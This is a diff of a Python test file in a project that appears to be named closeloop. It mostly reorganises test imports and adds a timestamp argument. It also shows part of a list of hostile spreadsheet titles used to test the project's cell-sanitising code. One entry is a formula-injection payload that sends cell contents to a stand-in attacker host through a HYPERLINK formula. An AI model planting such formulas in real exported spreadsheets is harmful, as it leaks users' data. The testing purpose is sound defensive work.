@@ -28,8 +28,9 @@ from closeloop.models import grids, metadata
 from closeloop.web.app import create_app
 from closeloop.xlsxsafe import neutralise, safe_cell
 from tests.conftest import CONFIG
-from tests.report_data import REAL_NOW, step, submit, z
-from tests.test_exam_service import APRIL, V
+from tests.exam_data import APRIL, V
+from tests.factories import step
+from tests.report_data import REAL_NOW, submit, z
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1, "click me")',
@@ -76,7 +77,7 @@ def hostile_week(app: App, tmp_path: Path) -> App:
     a = replace(app, settings=replace(app.settings, raw=raw))
     for i, title in enumerate(HOSTILE[:4]):
         ref = submit(a, "JS-A1-V01-G01", "sanitation", z(3, 31, 9 + i), title=title)
-        step(a, ref, "fix", "yantou.g1", z(3, 31, 14), note="已清理")
+        step(a, ref, "fix", "yantou.g1", z(3, 31, 14), now=REAL_NOW, note="已清理")
     return a
 
 
